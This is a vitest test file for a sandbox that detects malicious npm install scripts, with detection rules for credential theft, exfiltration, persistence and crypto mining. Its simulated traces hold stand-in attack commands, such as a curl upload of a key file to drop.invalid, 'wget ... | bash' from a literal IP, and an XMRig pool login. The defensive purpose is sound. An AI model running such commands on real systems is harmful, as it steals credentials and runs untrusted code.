import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { observeRuns } from '../report/build-report.js';
import { HOME, LOADER, PACKAGE_DIR, PROJECT, runBuilder, T0 } from '../report/testdata/runs.js';
import { downloadAndExecute, downloadAtInstall, META, nativeBuild } from '../report/testdata/scenarios.js';
import type { RunRecord, SandboxFinding } from '../types.js';
import { cloudMetadata } from './cloud-metadata.js';
import { credentialThenNetwork } from './credential-then-network.js';
import type { SandboxRule } from './define-sandbox-rule.js';
import { dnsExfiltrationShape, exfiltrationShape } from './dns-exfiltration-shape.js';
import { downloadExecute } from './download-execute.js';
import { execHiddenBinary } from './exec-hidden-binary.js';
import { hardcodedResolver } from './hardcoded-resolver.js';
import { honeytokenExfiltration } from './honeytoken-exfiltration.js';
import { honeytokenRead } from './honeytoken-read.js';
import { SANDBOX_RULES } from './index.js';
import { lingeringProcess } from './lingering-process.js';
import { literalIp } from './literal-ip.js';
import { networkCapability } from './network-capability.js';
import { npmPublish } from './npm-publish.js';
import { outsideWrite } from './outside-write.js';
import { persistence } from './persistence.js';
import { processCapability } from './process-capability.js';
import { recordIncomplete } from './record-incomplete.js';
import { sensitiveRead } from './sensitive-read.js';

const run = (rule: SandboxRule, ...records: RunRecord[]): SandboxFinding[] => {
  const { observations, views } = observeRuns(records, META);
  return rule.run({ report: observations, runs: views });
};

/** A postinstall `sh -c "node x.js"` (pid 4110) running node (pid 4111). */
const postinstall = () =>
  runBuilder().standard().script(4110, 'node x.js').proc(4111, 4110, ['node', 'x.js']);

describe('sandbox rules', () => {
  it('are registered once each, with sandbox- ids', () => {
    const ids = SANDBOX_RULES.map((rule) => rule.id);
    expect(new Set(ids).size).toBe(ids.length);
    expect(ids.length).toBeGreaterThanOrEqual(16);
  });

  it('are each documented in docs/sandbox-rules.md with their severity', () => {
    const docs = readFileSync(new URL('../../../docs/sandbox-rules.md', import.meta.url), 'utf8');
    for (const rule of SANDBOX_RULES) {
      expect(docs).toContain(`### ${rule.id}\n`);
      expect(docs).toMatch(
        new RegExp(`\\| \\[\`${rule.id}\`\\]\\(#${rule.id}\\) \\| ${rule.kind} \\| ${rule.severity} \\|`),
      );
    }
  });

  describe('sandbox-honeytoken-exfiltration', () => {
    it('fires on a token in raw TCP', () => {
      const r = postinstall().tcp(4111, '203.0.113.5', 9001, {
        data: `key=ghp_FIXTUREa1B2c3D4e5F6g7H8i9J0kLmNoPq`,
      });
      expect(run(honeytokenExfiltration, r.build())).toEqual([
        expect.objectContaining({
          severity: 'critical',
          confidence: 'high',
          evidence: expect.arrayContaining(['token github-token']),
        }),
      ]);
    });
    it('stays quiet on traffic without tokens', () => {
      const r = postinstall().tcp(4111, '203.0.113.5', 9001, { data: 'hello world, nothing to see' });
      expect(run(honeytokenExfiltration, r.build())).toEqual([]);
    });
  });

  describe('sandbox-honeytoken-read', () => {
    it('fires on a postinstall opening the SSH key', () => {
      const r = postinstall().open(4111, `${HOME}/.ssh/id_rsa`);
      expect(run(honeytokenRead, r.build())).toEqual([
        expect.objectContaining({
          severity: 'high',
          confidence: 'high',
          actor: expect.objectContaining({ pid: 4111 }),
        }),
      ]);
    });
    it('grades .npmrc reads by code as medium confidence', () => {
      const r = postinstall().open(4111, `${HOME}/.npmrc`);
      expect(run(honeytokenRead, r.build())).toEqual([expect.objectContaining({ confidence: 'medium' })]);
    });
    it('excuses the npm CLI a script runs (npm view) reading .npmrc', () => {
      const r = postinstall()
        .proc(4112, 4111, ['npm', 'view', 'left-padder', 'version'])
        .open(4112, `${HOME}/.npmrc`);
      expect(run(honeytokenRead, r.build())).toEqual([]);
    });
    it('does not excuse it when the same package publishes', () => {
      const r = postinstall()
        .proc(4112, 4111, ['npm', 'whoami'])
        .open(4112, `${HOME}/.npmrc`)
        .proc(4113, 4111, ['node', '/usr/lib/node_modules/npm/bin/npm-cli.js', 'publish']);
      expect(run(honeytokenRead, r.build())).toHaveLength(1);
    });
  });

  describe('sandbox-sensitive-read', () => {
    it('fires on a browser profile and a probe for a missing SSH key', () => {
      const r = postinstall()
        .open(4111, `${HOME}/.config/google-chrome/Default/Login Data`)
        .open(4111, `${HOME}/.ssh/id_ed25519`, 'read', { errno: 'ENOENT' });
      const findings = run(sensitiveRead, r.build());
      expect(findings.map((f) => f.message)).toEqual([
        expect.stringContaining('browser-profile'),
        expect.stringContaining('~/.ssh/id_ed25519 (failed: ENOENT)'),
      ]);
      expect(findings.every((f) => f.confidence === 'high')).toBe(true);
    });
    it("fires on the plan's bait paths the classifier does not know", () => {
      const record = postinstall().open(4111, `${HOME}/.local/share/keyring-helper/vault.db`).build();
      record.honeytokens.baitPaths.push(`${HOME}/.local/share/keyring-helper`);
      expect(run(sensitiveRead, record)).toEqual([
        expect.objectContaining({ message: expect.stringContaining('read bait files') }),
      ]);
    });
    it('ignores config loaders probing for a missing .env, and the package reading itself', () => {
      const r = postinstall()
        .open(4111, `${PROJECT}/.env.local`, 'read', { errno: 'ENOENT' })
        .open(4111, `${PACKAGE_DIR}/lib/index.js`)
        .open(4111, '/etc/passwd');
      expect(run(sensitiveRead, r.build())).toEqual([]);
    });
  });

  describe('sandbox-credential-then-network', () => {
    it('fires when the package reads a key and a process of its subtree sends', () => {
      const r = postinstall().open(4111, `${HOME}/.ssh/id_rsa`);
      r.proc(4112, 4110, ['curl', '-F', 'f=@/tmp/k', 'https://drop.invalid/']).lookup(4112, 'drop.invalid');
      r.tcp(4112, r.answer(), 443, { sni: 'drop.invalid' });
      expect(run(credentialThenNetwork, r.build())).toEqual([
        expect.objectContaining({ severity: 'critical', confidence: 'high' }),
      ]);
    });
    it('stays quiet without an outbound attempt, or when another package sends', () => {
      const quiet = postinstall().open(4111, `${HOME}/.ssh/id_rsa`);
      expect(run(credentialThenNetwork, quiet.build())).toEqual([]);
      const split = postinstall().open(4111, `${HOME}/.ssh/id_rsa`);
      split.script(4120, 'node fetch.js', { pkg: 'other-dep' }).lookup(4120, 'cdn.invalid');
      split.tcp(4120, split.answer(), 443, { sni: 'cdn.invalid' });
      expect(run(credentialThenNetwork, split.build())).toEqual([]);
    });
    it('does not join a read in one run with an unattributed attempt in another', () => {
      const reads = postinstall().open(4111, `${HOME}/.ssh/id_rsa`);
      const other = runBuilder('ci').standard();
      other.tcp(undefined, '203.0.113.8', 443, { data: 'x' });
      expect(run(credentialThenNetwork, reads.build(), other.build())).toEqual([]);
    });
    it('grades .npmrc plus registry-only traffic below decisive', () => {
      const r = postinstall().open(4111, `${HOME}/.npmrc`).lookup(4111, 'registry.npmjs.org');
      r.tcp(4111, r.answer(), 443, { sni: 'registry.npmjs.org' });
      expect(run(credentialThenNetwork, r.build())).toEqual([
        expect.objectContaining({ severity: 'high', confidence: 'medium' }),
      ]);
    });
  });

  describe('sandbox-npm-publish', () => {
    it('fires on npm publish, a shell line running it, and a publish PUT', () => {
      const r = postinstall()
        .proc(4112, 4111, ['npm', 'publish', '--access', 'public'])
        .proc(4113, 4111, ['/bin/sh', '-c', 'cd /tmp/p && pnpm publish --no-git-checks'], {
          errno: 'EACCES',
        });
      r.tcp(4111, '192.0.2.80', 80, {
        http: { method: 'PUT', target: '/@victim%2fui-kit', host: 'registry.local.invalid' },
        data: 'PUT /@victim%2fui-kit HTTP/1.1\r\n\r\n{"_attachments":{}}',
      });
      expect(run(npmPublish, r.build()).map((f) => f.evidence[0])).toEqual([
        'npm publish --access public',
        '/bin/sh -c "cd /tmp/p && pnpm publish --no-git-checks"',
        'PUT registry.local.invalid/@victim%2fui-kit',
      ]);
    });
    it('stays quiet on npm pack, npm view, registry GETs and unrelated PUTs', () => {
      const r = postinstall()
        .proc(4112, 4111, ['npm', 'pack'])
        .proc(4113, 4111, ['npm', 'view', 'publish'])
        .proc(4114, 4111, ['sh', '-c', 'npm run publish-docs && npm view x publish'])
        .proc(4115, 4111, ['sh', '-c', 'yarn build:publish']);
      r.tcp(4111, '192.0.2.80', 80, {
        http: { method: 'GET', target: '/left-padder', host: 'registry.npmjs.invalid' },
      });
      r.tcp(4111, '192.0.2.81', 80, {
        http: { method: 'PUT', target: '/items', host: 'api.shop.invalid' },
        data: 'PUT /items\r\n\r\n{}',
      });
      expect(run(npmPublish, r.build())).toEqual([]);
    });
  });

  describe('sandbox-persistence', () => {
    it('fires on a shell rc write (medium) and a crontab install (high)', () => {
      const r = postinstall().write(4111, `${HOME}/.bashrc`, {}).proc(4112, 4111, ['crontab', '/tmp/c']);
      const findings = run(persistence, r.build());
      expect(findings.map((f) => [f.confidence, f.evidence[0]])).toEqual([
        ['medium', '~/.bashrc'],
        ['high', 'crontab /tmp/c'],
      ]);
    });
    it('counts a failed attempt, via rename too', () => {
      const r = postinstall()
        .write(4111, '/tmp/u.service')
        .rename(4111, '/tmp/u.service', '/etc/systemd/system/u.service', { errno: 'EROFS' });
      expect(run(persistence, r.build())).toEqual([
        expect.objectContaining({ confidence: 'high', message: expect.stringContaining('(failed: EROFS)') }),
      ]);
    });
    it('stays quiet on reading rc files and listing the crontab', () => {
      const r = postinstall().open(4111, `${HOME}/.bashrc`).proc(4112, 4111, ['crontab', '-l']);
      expect(run(persistence, r.build())).toEqual([]);
    });
  });

  describe('sandbox-outside-write', () => {
    it('fires on CI workflows (high), other packages and the home', () => {
      const r = postinstall()
        .write(4111, `${PROJECT}/.github/workflows/shai-hulud.yml`)
        .write(4111, `${PROJECT}/node_modules/express/index.js`)
        .write(4111, `${HOME}/notes.txt`);
      expect(run(outsideWrite, r.build()).map((f) => [f.severity, f.confidence])).toEqual([
        ['high', 'medium'],
        ['medium', 'medium'],
        ['medium', 'low'],
      ]);
    });
    it('stays quiet on its own dir, temp dirs and tool caches', () => {
      const r = postinstall()
        .write(4111, `${PACKAGE_DIR}/dist/out.js`)
        .write(4111, '/tmp/build-1/x.o')
        .write(4111, `${HOME}/.cache/node-gyp/20.20.2/installVersion`)
        .write(4111, `${PROJECT}/node_modules/.cache/babel/x.json`);
      expect(run(outsideWrite, r.build())).toEqual([]);
    });
  });

  describe('sandbox-hardcoded-resolver', () => {
    it('fires on a query sent to another resolver', () => {
      const r = postinstall().lookup(4111, 'x.invalid', { resolver: '198.51.100.53' });
      expect(run(hardcodedResolver, r.build())).toEqual([
        expect.objectContaining({ evidence: ['resolver 198.51.100.53', 'query x.invalid'] }),
      ]);
    });
    it('stays quiet on the system resolver', () => {
      expect(run(hardcodedResolver, postinstall().lookup(4111, 'x.invalid').build())).toEqual([]);
    });
  });

  describe('sandbox-dns-exfiltration-shape', () => {
    it('recognises data-shaped names', () => {
      expect(exfiltrationShape('4a6f686e446f653a70617373776f72643132333435363738.x.invalid')).toMatch(
        /high-entropy/,
      );
      expect(
        exfiltrationShape('a1b2c3d4e5f6a7b8.c9d0e1f2a3b4c5d6.e7f8a9b0c1d2e3f4.a5b6c7d8e9f0a1b2.t.invalid'),
      ).toMatch(/encoded/);
      expect(exfiltrationShape('www.github.com')).toBeUndefined();
      expect(exfiltrationShape('d1a2b3c4d5e6f7.cloudfront.net')).toBeUndefined();
      expect(
        exfiltrationShape('my-really-long-but-readable-service-name.eu-west-1.elb.amazonaws.com'),
      ).toBeUndefined();
    });
    it('fires, with high confidence for a tunnel of several queries', () => {
      const r = postinstall();
      for (const n of [1, 2, 3])
        r.lookup(4111, `${n}f3a9c1e7b2d4086${n}5e9a7c3b1d2f4068a9c1e3b5d7f${n}.t.invalid`);
      expect(run(dnsExfiltrationShape, r.build())).toEqual([expect.objectContaining({ confidence: 'high' })]);
    });
    it('stays quiet on ordinary lookups', () => {
      const r = postinstall()
        .lookup(4111, 'registry.npmjs.org')
        .lookup(4111, 'objects.githubusercontent.com');
      expect(run(dnsExfiltrationShape, r.build())).toEqual([]);
    });
  });

  describe('sandbox-literal-ip', () => {
    it('fires on a documentation IP standing in for an attacker', () => {
      const r = postinstall().connect(4111, '203.0.113.7', 443, { errno: 'ECONNREFUSED' });
      expect(run(literalIp, r.build())).toEqual([expect.objectContaining({ severity: 'medium' })]);
    });
    it('stays quiet on loopback, the netns address and looked-up hosts', () => {
      const r = postinstall()
        .connect(4111, '127.0.0.1', 3000)
        .connect(4111, '10.255.0.1', 8080)
        .lookup(4111, 'cdn.invalid');
      r.tcp(4111, r.answer(), 443, { sni: 'cdn.invalid' });
      expect(run(literalIp, r.build())).toEqual([]);
    });
  });

  describe('sandbox-cloud-metadata', () => {
    it('fires on the metadata address and host', () => {
      const r = postinstall().tcp(4111, '169.254.169.254', 80, {
        http: { method: 'GET', target: '/latest/meta-data/iam/security-credentials/' },
      });
      r.lookup(4111, 'metadata.google.internal');
      expect(run(cloudMetadata, r.build())).toHaveLength(2);
    });
    it('stays quiet on other hosts', () => {
      expect(run(cloudMetadata, postinstall().lookup(4111, 'metadata.example-cdn.invalid').build())).toEqual(
        [],
      );
    });
  });

  describe('sandbox-download-execute', () => {
    it('fires on the literal-IP download that runs from /tmp', () => {
      const findings = run(downloadExecute, downloadAndExecute());
      expect(findings.map((f) => f.message)).toEqual([
        expect.stringContaining(
          'ran /tmp/.cache-x, written by the postinstall script of left-padder outside its package',
        ),
        expect.stringContaining('made /tmp/.cache-x executable'),
      ]);
    });
    it('fires on a file in its own dir written after contacting a literal IP', () => {
      const r = postinstall().connect(4111, '198.51.100.4', 80).write(4111, `${PACKAGE_DIR}/bin/x`);
      r.proc(4112, 4111, [`${PACKAGE_DIR}/bin/x`]);
      expect(run(downloadExecute, r.build())).toEqual([expect.objectContaining({ confidence: 'high' })]);
    });
    it('leaves what a package-manager CLI wrote and runs to the package manager (npx, yarn 1 shims)', () => {
      const npx = `${HOME}/.npm/_npx/9f2c/node_modules/husky/lib/bin.js`;
      const r = postinstall()
        .proc(4112, 4111, ['npm', 'exec', '--yes', 'husky'])
        .write(4112, npx)
        .proc(4113, 4112, ['node', npx], { path: '/usr/bin/node' })
        .proc(4114, 4111, ['yarn', 'build'])
        .write(4114, '/tmp/yarn--1764380000000-0.1/node')
        .proc(4115, 4114, ['node', 'build.js'], { path: '/tmp/yarn--1764380000000-0.1/node' });
      expect(run(downloadExecute, r.build())).toEqual([]);
      expect(run(execHiddenBinary, r.build())).toEqual([]);
    });
    it('grades a run of a tool download in ~/.cache as medium', () => {
      const r = postinstall().write(4111, `${HOME}/.cache/ms-playwright/chromium-1140/chrome-linux/chrome`);
      r.proc(4112, 4111, ['chrome', '--version'], {
        path: `${HOME}/.cache/ms-playwright/chromium-1140/chrome-linux/chrome`,
      });
      expect(run(downloadExecute, r.build())).toEqual([expect.objectContaining({ confidence: 'medium' })]);
    });
    it('fires on curl | sh, high confidence for a literal-IP URL', () => {
      const r = postinstall()
        .proc(4112, 4111, ['sh', '-c', 'curl -fsSL https://get.tool.invalid/install.sh | sh'])
        .proc(4113, 4111, ['sh', '-c', 'wget -qO- http://203.0.113.7/i | bash']);
      expect(run(downloadExecute, r.build()).map((f) => f.confidence)).toEqual(['medium', 'high']);
    });
    it('stays quiet on a prebuilt binary downloaded over HTTPS into its own dir, and on native builds', () => {
      expect(run(downloadExecute, downloadAtInstall())).toEqual([]);
      expect(run(downloadExecute, nativeBuild())).toEqual([]);
    });
  });

  describe('sandbox-exec-hidden-binary', () => {
    it('fires on a hidden dir in the home, /dev/shm (high) and /tmp (medium)', () => {
      const r = postinstall()
        .proc(4112, 4111, ['kworker'], { path: `${HOME}/.local/share/.x/kworker` })
        .proc(4113, 4111, ['x'], { path: '/dev/shm/x' })
        .proc(4114, 4111, ['sh', '/tmp/run.sh'], { path: '/bin/sh' });
      expect(run(execHiddenBinary, r.build()).map((f) => f.confidence)).toEqual(['high', 'high', 'medium']);
    });
    it('stays quiet on node_modules/.bin, npx and system binaries', () => {
      const r = postinstall()
        .proc(4112, 4111, ['tsc'], { path: `${PROJECT}/node_modules/.bin/tsc` })
        .proc(4113, 4111, ['x'], { path: `${HOME}/.npm/_npx/1a2b/node_modules/.bin/x` })
        .proc(4114, 4111, ['node', `${PACKAGE_DIR}/.scripts/setup.js`], { path: '/usr/bin/node' });
      // A package's own dot-dir is still a hidden dir, but not a decisive one.
      expect(run(execHiddenBinary, r.build()).map((f) => [f.evidence[0], f.confidence])).toEqual([
        ['~/webapp/node_modules/left-padder/.scripts/setup.js', 'medium'],
      ]);
    });
  });

  describe('capabilities and lingering processes', () => {
    it('report network and process use as capabilities', () => {
      const r = postinstall().lookup(4111, 'cdn.invalid');
      expect(run(networkCapability, r.build())).toEqual([
        expect.objectContaining({ kind: 'capability', severity: 'low' }),
      ]);
      expect(run(processCapability, r.build())).toEqual([expect.objectContaining({ kind: 'capability' })]);
    });
    it('are absent for a package that does nothing', () => {
      const r = runBuilder().standard().loader();
      expect(run(networkCapability, r.build())).toEqual([]);
      // The loader itself is the import phase: it counts as started.
      expect(run(processCapability, runBuilder().standard().build())).toEqual([]);
    });
    it('say when the record is incomplete (dropped events, a phase cut off)', () => {
      const record = postinstall().build();
      record.trace.dropped = 1200;
      record.phases[1]!.status = 'time-limit';
      expect(run(recordIncomplete, record).map((f) => [f.kind, f.evidence[0]])).toEqual([
        ['capability', 'run default: 1200 events dropped'],
        ['capability', 'run default, phase import: time-limit after 30 s'],
      ]);
      expect(run(recordIncomplete, postinstall().build())).toEqual([]);
    });
    it('flag processes that outlived a phase', () => {
      const r = postinstall()
        .loader()
        .phase('install', 4101, T0, T0 + 1000, 2)
        .phase('import', LOADER, T0 + 1000, T0 + 2000);
      expect(run(lingeringProcess, r.build())).toEqual([
        expect.objectContaining({ message: expect.stringContaining('2 process') }),
      ]);
      const quiet = postinstall().phase('install', 4101, T0, T0 + 1000);
      expect(run(lingeringProcess, quiet.build())).toEqual([]);
    });
  });
});

describe('sandbox-crypto-miner', () => {
  it('fires on a renamed binary started with a mining pool and XMRig flags', async () => {
    const { cryptoMiner } = await import('./crypto-miner.js');
    const r = postinstall().proc(4112, 4111, [
      './jsextension',
      '-o',
      'stratum+tcp://pool.fixture-pool.invalid:443',
      '--cpu-max-threads-hint=50',
    ]);
    expect(run(cryptoMiner, r.build())).toEqual([
      expect.objectContaining({ rule: 'sandbox-crypto-miner', severity: 'critical', confidence: 'high' }),
    ]);
  });

  it('fires on the Stratum login at the sinkhole', async () => {
    const { cryptoMiner } = await import('./crypto-miner.js');
    const r = postinstall().tcp(4111, '203.0.113.5', 3333, {
      data: '{"id":1,"jsonrpc":"2.0","method":"login","params":{"login":"4FIXTURE","agent":"XMRig/6.21"}}\n',
    });
    expect(run(cryptoMiner, r.build())).toEqual([expect.objectContaining({ rule: 'sandbox-crypto-miner' })]);
  });

  it('stays quiet for ordinary commands and JSON-RPC', async () => {
    const { cryptoMiner } = await import('./crypto-miner.js');
    const r = postinstall()
      .proc(4112, 4111, ['node', 'build.js', '--algo', 'sha256', '-o', 'dist/out.js'])
      .tcp(4111, '203.0.113.5', 8545, { data: '{"jsonrpc":"2.0","method":"eth_blockNumber","id":1}' });
    expect(run(cryptoMiner, r.build())).toEqual([]);
  });
});

describe('config loaders and process listers are not threats on their own', () => {
  it('ps reading every /proc/<pid>/environ is not a sensitive read; node reading one is', () => {
    const lister = postinstall()
      .proc(4112, 4111, ['ps'], { path: '/usr/bin/ps' })
      .open(4112, '/proc/1/environ')
      .open(4112, '/proc/24/environ');
    expect(run(sensitiveRead, lister.build())).toEqual([]);
    const thief = postinstall().open(4111, '/proc/1/environ');
    expect(run(sensitiveRead, thief.build())).toEqual([
      expect.objectContaining({ rule: 'sandbox-sensitive-read' }),
    ]);
  });

  it('a project .env read at import (dotenv/config) is a medium finding that leaves the package clean', async () => {
    const { buildSandboxReport } = await import('../report/build-report.js');
    const r = runBuilder().standard().loader().open(LOADER, `${PROJECT}/.env`);
    const report = buildSandboxReport([r.build()], META);
    expect(report.findings.filter((f) => f.rule === 'sandbox-honeytoken-read')).toEqual([
      expect.objectContaining({ severity: 'medium', confidence: 'medium' }),
    ]);
    expect(report.verdict).toBe('clean');
  });
});
